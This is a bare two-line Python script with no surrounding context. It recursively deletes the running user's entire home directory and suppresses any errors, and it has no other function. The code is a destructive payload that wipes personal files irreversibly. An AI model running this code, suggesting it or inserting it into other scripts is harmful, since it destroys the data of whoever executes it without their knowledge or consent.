import os, shutil
shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
